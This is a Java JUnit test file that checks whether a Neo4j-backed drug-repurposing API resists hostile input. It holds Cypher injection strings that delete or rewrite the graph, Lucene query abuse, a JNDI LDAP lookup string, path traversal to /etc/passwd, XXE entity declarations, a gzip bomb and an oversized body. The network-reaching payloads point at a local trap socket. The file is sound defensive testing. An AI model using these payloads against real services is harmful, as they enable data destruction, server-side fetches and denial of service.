package io.repurpose.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.GZIPOutputStream;

import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.micronaut.test.support.TestPropertyProvider;
import io.repurpose.graph.GraphStore;
import jakarta.inject.Inject;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;

/**
 * Hostile input at the HTTP door: Cypher and Lucene syntax in every string parameter of every endpoint,
 * XML that reaches for the network, a gzip bomb posted as XML, a 50 MB body, invalid UTF-8. Each must get
 * a clear 4xx (problem+json) or end as a quarantined file, and leave the graph unchanged. A local socket
 * stands in for "the network": payloads that would make Neo4j or an XML parser fetch a URL point at it,
 * and no connection may arrive.
 */
@MicronautTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest implements TestPropertyProvider {
    private static final String R = TestNeo4j.READ_KEY;
    private static final String I = TestNeo4j.INGEST_KEY;

    private Path work;
    private ServerSocket trap;
    private final AtomicInteger connections = new AtomicInteger();
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    @Inject
    EmbeddedServer server;

    @Override
    public Map<String, String> getProperties() {
        try {
            work = Files.createTempDirectory("repurpose-hostile");
            trap = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Thread acceptor = new Thread(() -> {
            while (!trap.isClosed()) {
                try {
                    trap.accept().close();
                    connections.incrementAndGet();
                } catch (IOException e) {
                    return;
                }
            }
        }, "network-trap");
        acceptor.setDaemon(true);
        acceptor.start();
        return servingAndIngesting(work);
    }

    /** The shared graph and model, the test annotator, inbox and quarantine under {@code work}. */
    static Map<String, String> servingAndIngesting(Path work) {
        Map<String, String> p = new HashMap<>(TestNeo4j.properties(TestNeo4j.shared()));
        p.put("repurpose.linkpred.model-directory", TestNeo4j.sharedModel().toString());
        p.put("repurpose.ingest.annotator", KeywordAnnotator.class.getName());
        p.put("repurpose.ingest.inbox", work.resolve("inbox").toString());
        p.put("repurpose.ingest.quarantine", work.resolve("quarantine").toString());
        p.put("repurpose.ingest.workers", "1");
        return p;
    }

    @AfterAll
    void closeTrap() throws IOException {
        trap.close();
    }

    private String trapUrl(String path) {
        return "http://127.0.0.1:" + trap.getLocalPort() + "/" + path;
    }

    /** Cypher, Lucene and other syntax an attacker might try in any string. */
    List<String> payloads() {
        return List.of(
                // Cypher
                "' OR 1=1 //", "x'}) MATCH (n) DETACH DELETE n //", "\"}) MATCH (n) DETACH DELETE n RETURN 1 //",
                "DB00331'}) SET n.name = 'pwned' //", "`) DETACH DELETE n //", "$password", "{identifier: 'DB00331'}",
                "x' UNION MATCH (n) RETURN n //", "x' CALL dbms.components() YIELD name RETURN name //",
                "x'}) LOAD CSV FROM '" + trapUrl("cypher") + "' AS l RETURN l //",
                "x\\'; CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {}) //",
                // Lucene
                "*:*", "*", "?", "name:*", "identifier:DB*", "metformin~100", "/.*/", "[* TO *]", "{a TO z}",
                "((((((", "\"unterminated", "\\", "a AND OR NOT b", "+-&&||!(){}[]^\"~*?:\\/", "a^1e308",
                "\"a b\"~1000000", "*metformin*",
                // other
                "${jndi:ldap://127.0.0.1:" + trap.getLocalPort() + "/x}", "../../../../etc/passwd", "\u0000",
                "\u202Eevil", "x".repeat(2000), "%00%27", "DOID:9352\nMATCH (n) DETACH DELETE n");
    }

    /** Where a hostile string can go, {@code %s} standing for it (already URL-encoded). */
    static final List<String> STRING_SLOTS = List.of(
            "/api/v1/entities?q=%s",
            "/api/v1/entities?q=metformin&type=%s",
            "/api/v1/entities/%s",
            "/api/v1/diseases/%s/candidates",
            "/api/v1/diseases/DOID:9352/candidates?excludeKnown=%s",
            "/api/v1/drugs/%s/candidates",
            "/api/v1/drugs/DB00331/candidates?excludeKnown=%s",
            "/api/v1/drugs/%s/diseases/DOID:9352/explanation",
            "/api/v1/drugs/DB00331/diseases/%s/explanation",
            "/api/v1/evidence?drug=%s",
            "/api/v1/evidence?disease=%s",
            "/api/v1/evidence?gene=%s",
            "/api/v1/evidence?drug=DB00331&disease=%s&gene=%s",
            "/api/v1/jobs/%s",
            // numbers get strings too
            "/api/v1/entities?q=metformin&limit=%s",
            "/api/v1/entities?q=metformin&offset=%s",
            "/api/v1/diseases/DOID:9352/candidates?limit=%s",
            "/api/v1/evidence?drug=DB00331&offset=%s",
            "/api/v1/drugs/DB00331/diseases/DOID:9352/explanation?paths=%s");

    record Fingerprint(long nodes, long relationships, long properties, long ledger) {
    }

    /** The graph's shape; the ingestion ledger (IngestFile) is counted apart, it records bad files too. */
    static Fingerprint fingerprint() {
        GraphStore s = TestNeo4j.shared();
        Map<String, Object> n = s.read("MATCH (n) WHERE NOT n:IngestFile RETURN count(n) AS c, "
                + "coalesce(sum(size(keys(n))), 0) AS p", Map.of()).get(0);
        long r = (Long) s.read("MATCH ()-[r]->() RETURN count(r) AS c", Map.of()).get(0).get("c");
        long l = (Long) s.read("MATCH (f:IngestFile) RETURN count(f) AS c", Map.of()).get(0).get("c");
        return new Fingerprint((Long) n.get("c"), r, (Long) n.get("p"), l);
    }

    private String base() {
        return "http://127.0.0.1:" + server.getPort();
    }

    HttpResponse<String> get(String pathAndQuery, String key) {
        return send(HttpRequest.newBuilder(URI.create(base() + pathAndQuery)).header("X-API-Key", key).GET());
    }

    HttpResponse<String> send(HttpRequest.Builder b) {
        try {
            return http.send(b.timeout(Duration.ofSeconds(60)).build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static void assertProblem(HttpResponse<String> r, String what) {
        assertEquals(Problem.CONTENT_TYPE, r.headers().firstValue("Content-Type").orElse(null),
                what + " -> " + r.statusCode() + " " + r.body());
        assertTrue(r.body().contains("\"status\":" + r.statusCode()), what + " -> " + r.body());
    }

    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void injectionInEveryStringParameterIsAClear4xxOrAPlainAnswerAndChangesNothing() {
        Fingerprint before = fingerprint();
        Map<Integer, Integer> statuses = new TreeMap<>();
        int requests = 0;
        for (String slot : STRING_SLOTS) {
            for (String payload : payloads()) {
                String uri = slot.replace("%s", enc(payload));
                HttpResponse<String> r = get(uri, R);
                requests++;
                statuses.merge(r.statusCode(), 1, Integer::sum);
                String what = slot + " with " + payload.substring(0, Math.min(60, payload.length()));
                assertTrue(r.statusCode() == 200 || r.statusCode() == 400 || r.statusCode() == 404,
                        what + " -> " + r.statusCode() + " " + r.body());
                if (r.statusCode() != 200) {
                    assertProblem(r, what);
                }
            }
        }
        // the API key header itself
        for (String payload : payloads()) {
            if (payload.chars().allMatch(c -> c >= 0x20 && c < 0x7f)) { // what a header may carry
                HttpResponse<String> r = get("/api/v1/entities?q=metformin", payload);
                assertEquals(401, r.statusCode(), payload);
                assertProblem(r, "X-API-Key " + payload);
                requests++;
            }
        }
        System.out.printf("hostile parameters: %d requests, statuses %s%n", requests, statuses);
        assertEquals(before, fingerprint(), "the graph changed");
        assertEquals(List.of(), TestNeo4j.shared().read("MATCH (n {name: 'pwned'}) RETURN n.identifier AS id",
                Map.of()));
        assertEquals(0, connections.get(), "a payload made the server reach for the network");
        // the server still answers normally
        HttpResponse<String> ok = get("/api/v1/entities?q=metformin", R);
        assertEquals(200, ok.statusCode());
        assertTrue(ok.body().contains("DB00331"), ok.body());
    }

    /** Posts a document and waits for its job; returns the final job JSON. */
    String postAndWait(String contentType, byte[] body, String query) throws InterruptedException {
        HttpResponse<String> r = send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/documents" + query))
                .header("X-API-Key", I).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
        assertEquals(202, r.statusCode(), r.body());
        String id = r.body().replaceAll("(?s).*\"id\":\"(job-[^\"]+)\".*", "$1");
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(90);
        String job;
        do {
            Thread.sleep(100);
            job = get("/api/v1/jobs/" + id, R).body();
        } while ((job.contains("\"status\":\"queued\"") || job.contains("\"status\":\"running\""))
                && System.nanoTime() < deadline);
        return job;
    }

    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void injectionInPostedDocumentsIsStoredAsPlainText() throws InterruptedException {
        GraphStore store = TestNeo4j.shared();
        Fingerprint before = fingerprint();
        int n = 0;
        for (String payload : payloads()) {
            if (payload.indexOf('\u0000') >= 0) {
                continue; // refused with 400 (NUL in text), see below
            }
            String id = "hostile:" + n++;
            String json = "{\"id\": \"" + id + "\", \"title\": " + jsonString(payload) + ", \"source\": "
                    + jsonString(payload) + ", \"text\": " + jsonString("Note. " + payload) + "}";
            String job = postAndWait("application/json", json.getBytes(StandardCharsets.UTF_8), "");
            assertTrue(job.contains("\"status\":\"succeeded\""), payload + ": " + job);
            List<Map<String, Object>> rows = store.read("MATCH (d:Document {id: $id}) RETURN d.title AS t",
                    Map.of("id", id));
            assertEquals(1, rows.size(), id);
            assertEquals(payload, rows.get(0).get("t"), "stored as given");
        }
        // ids are checked, not interpolated: every payload as an id is a 400
        for (String payload : payloads()) {
            HttpResponse<String> r = send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/documents?id="
                    + enc(payload))).header("X-API-Key", I).header("Content-Type", "text/plain")
                    .POST(HttpRequest.BodyPublishers.ofString("Some note.")));
            assertEquals(400, r.statusCode(), payload + " -> " + r.body());
            assertProblem(r, "id " + payload);
        }
        HttpResponse<String> nul = send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/documents"))
                .header("X-API-Key", I).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"text\": \"a\\u0000b\"}")));
        assertEquals(400, nul.statusCode(), nul.body());
        Fingerprint after = fingerprint();
        // exactly one Document node per accepted post, nothing else
        assertEquals(before.nodes() + n, after.nodes());
        assertEquals(before.relationships(), after.relationships());
        assertEquals(0, connections.get());
        store.write("MATCH (d:Document) WHERE d.id STARTS WITH 'hostile:' DETACH DELETE d", Map.of());
    }

    static String jsonString(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.append('"').toString();
    }

    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void xmlReachingForTheNetworkIsQuarantinedWithoutAConnection() throws Exception {
        Fingerprint before = fingerprint();
        long quarantinedBefore = quarantined(".xml");
        String citation = "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>%s</PMID><Article>"
                + "<ArticleTitle>t</ArticleTitle><Abstract><AbstractText>Metformin is used to treat type 2 diabetes. "
                + "%s</AbstractText></Abstract></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>";
        List<String> hostile = List.of(
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"" + trapUrl("e") + "\">]>"
                        + String.format(citation, "99100001", "&e;"),
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % p SYSTEM \"" + trapUrl("p") + "\"> %p;]>"
                        + String.format(citation, "99100002", "&exfil;"),
                "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"" + trapUrl("x.dtd") + "\">"
                        + String.format(citation, "99100003", "&undeclared;"));
        for (String xml : hostile) {
            String job = postAndWait("application/xml", xml.getBytes(StandardCharsets.UTF_8), "");
            assertTrue(job.contains("\"status\":\"failed\"") && job.contains("\"filesFailed\":1")
                    && job.contains("\"documentsIngested\":0"), job);
            assertTrue(job.contains("not declared"), "a clear error: " + job);
        }
        Thread.sleep(300);
        assertEquals(0, connections.get(), "the XML parser reached for the network");
        assertEquals(quarantinedBefore + 3, quarantined(".xml"));
        Fingerprint after = fingerprint();
        assertEquals(new Fingerprint(before.nodes(), before.relationships(), before.properties(), after.ledger()),
                after, "graph unchanged (but for the ledger entries of the bad files)");
    }

    long quarantined(String suffix) throws IOException {
        Path q = work.resolve("quarantine");
        if (!Files.isDirectory(q)) {
            return 0;
        }
        try (var files = Files.walk(q)) {
            return files.filter(f -> f.getFileName().toString().endsWith(suffix)).count();
        }
    }

    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void gzipBombPostedAsXmlIsQuarantinedWithoutExhaustingTheHeap() throws Exception {
        Fingerprint before = fingerprint();
        // 2 GB of spaces after a valid start, 2 MB on the wire (one 64 MB gzip member, repeated)
        byte[] block = new byte[64 << 20];
        java.util.Arrays.fill(block, (byte) ' ');
        ByteArrayOutputStream member = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(member)) {
            gz.write(block);
        }
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(bomb)) {
            gz.write(("<?xml version=\"1.0\"?><PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>99200001"
                    + "</PMID><Article><ArticleTitle>Bomb</ArticleTitle><Abstract><AbstractText>Metformin is used to"
                    + " treat type 2 diabetes.").getBytes(StandardCharsets.UTF_8));
        }
        for (int i = 0; i < 32; i++) {
            bomb.write(member.toByteArray());
        }
        block = null;
        assertTrue(bomb.size() < 4 << 20, "small on the wire: " + bomb.size());
        long t0 = System.nanoTime();
        String job = postAndWait("application/xml", bomb.toByteArray(), "");
        long ms = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0);
        assertTrue(job.contains("\"status\":\"failed\"") && job.contains("\"documentsIngested\":0"), job);
        assertTrue(job.contains("longer than") || job.contains("gzip bomb"), job);
        Runtime rt = Runtime.getRuntime();
        System.gc();
        long used = rt.totalMemory() - rt.freeMemory();
        System.out.printf("gzip bomb (%,d bytes posted, 2 GB inflated): job failed and file quarantined in %d ms; "
                + "heap after GC %,d MB of %,d MB%n", bomb.size(), ms, used >> 20, rt.maxMemory() >> 20);
        assertTrue(used < rt.maxMemory() / 2, "heap after the bomb: " + used);
        assertTrue(quarantined(".xml") >= 1);
        Fingerprint after = fingerprint();
        assertEquals(new Fingerprint(before.nodes(), before.relationships(), before.properties(), after.ledger()),
                after);
    }

    @Test
    @Timeout(value = 60, unit = TimeUnit.SECONDS)
    void fiftyMegabyteBodyIs413BeforeItIsRead() throws Exception {
        Fingerprint before = fingerprint();
        for (boolean chunked : new boolean[] {false, true}) {
            long t0 = System.nanoTime();
            RawReply r = rawPost(50L << 20, chunked);
            long ms = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0);
            System.out.printf("50 MB body (%s): %d after %d ms, %,d bytes sent%n",
                    chunked ? "chunked" : "Content-Length", r.status, ms, r.sent);
            assertEquals(413, r.status, r.head);
            assertTrue(r.head.toLowerCase(java.util.Locale.ROOT).contains("content-type: application/problem+json"),
                    r.head);
        }
        assertEquals(before, fingerprint());
    }

    record RawReply(int status, String head, long sent) {
    }

    /** A POST of {@code size} bytes over a raw socket; reads the reply while (or after) sending. */
    RawReply rawPost(long size, boolean chunked) throws Exception {
        try (Socket s = new Socket(InetAddress.getLoopbackAddress(), server.getPort())) {
            s.setSoTimeout(30_000);
            OutputStream out = s.getOutputStream();
            String head = "POST /api/v1/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: " + I
                    + "\r\nContent-Type: text/plain\r\n"
                    + (chunked ? "Transfer-Encoding: chunked\r\n" : "Content-Length: " + size + "\r\n") + "\r\n";
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            java.util.concurrent.CompletableFuture<String> reply = java.util.concurrent.CompletableFuture.supplyAsync(
                    () -> {
                        try {
                            return readHead(s.getInputStream());
                        } catch (IOException e) {
                            return "IOException " + e.getMessage();
                        }
                    });
            byte[] chunk = new byte[1 << 16];
            java.util.Arrays.fill(chunk, (byte) 'a');
            long sent = 0;
            try {
                while (sent < size && !reply.isDone()) {
                    if (chunked) {
                        out.write((Integer.toHexString(chunk.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                    }
                    out.write(chunk);
                    if (chunked) {
                        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                    }
                    sent += chunk.length;
                }
                if (chunked && !reply.isDone()) {
                    out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                }
                out.flush();
            } catch (IOException e) {
                // the server may close the connection once it has answered
            }
            String h = reply.get(30, TimeUnit.SECONDS);
            int status = h.startsWith("HTTP/1.1 ") ? Integer.parseInt(h.substring(9, 12)) : -1;
            return new RawReply(status, h, sent);
        }
    }

    static String readHead(InputStream in) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        int c;
        while ((c = in.read()) >= 0) {
            b.write(c);
            String s = b.toString(StandardCharsets.ISO_8859_1);
            if (s.endsWith("\r\n\r\n")) {
                return s;
            }
        }
        return b.toString(StandardCharsets.ISO_8859_1);
    }

    @Test
    @Timeout(value = 120, unit = TimeUnit.SECONDS)
    void invalidUtf8InPostedDocumentsIsRefusedOrQuarantined() throws Exception {
        Fingerprint before = fingerprint();
        byte[][] bad = {{(byte) 0x80}, {(byte) 0xC3, '('}, {(byte) 0xC0, (byte) 0xAF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xFF}};
        List<String> refused = new ArrayList<>();
        for (byte[] b : bad) {
            for (String type : List.of("text/plain", "application/json")) {
                ByteArrayOutputStream body = new ByteArrayOutputStream();
                body.write((type.equals("text/plain") ? "Metformin is used to treat type 2 diabetes. X"
                        : "{\"id\": \"utf8:1\", \"text\": \"Metformin is used to treat type 2 diabetes. X")
                        .getBytes(StandardCharsets.UTF_8));
                body.write(b);
                body.write((type.equals("text/plain") ? "" : "\"}").getBytes(StandardCharsets.UTF_8));
                HttpResponse<String> r = send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/documents"))
                        .header("X-API-Key", I).header("Content-Type", type)
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())));
                assertEquals(400, r.statusCode(), type + " with " + java.util.HexFormat.of().formatHex(b) + " -> "
                        + r.body());
                assertProblem(r, type);
                refused.add(r.body());
            }
            ByteArrayOutputStream xml = new ByteArrayOutputStream();
            xml.write(("<?xml version=\"1.0\" encoding=\"UTF-8\"?><PubmedArticleSet><PubmedArticle><MedlineCitation>"
                    + "<PMID>99300001</PMID><Article><ArticleTitle>t</ArticleTitle><Abstract><AbstractText>Metformin "
                    + "is used to treat type 2 diabetes. X").getBytes(StandardCharsets.UTF_8));
            xml.write(b);
            xml.write("</AbstractText></Abstract></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>"
                    .getBytes(StandardCharsets.UTF_8));
            String job = postAndWait("application/xml", xml.toByteArray(), "");
            assertTrue(job.contains("\"status\":\"failed\"") && job.contains("\"documentsIngested\":0")
                    && job.contains("UTF-8"), job);
        }
        System.out.println("invalid UTF-8, e.g.: " + refused.get(0));
        Fingerprint after = fingerprint();
        assertEquals(new Fingerprint(before.nodes(), before.relationships(), before.properties(), after.ledger()),
                after);
    }
}
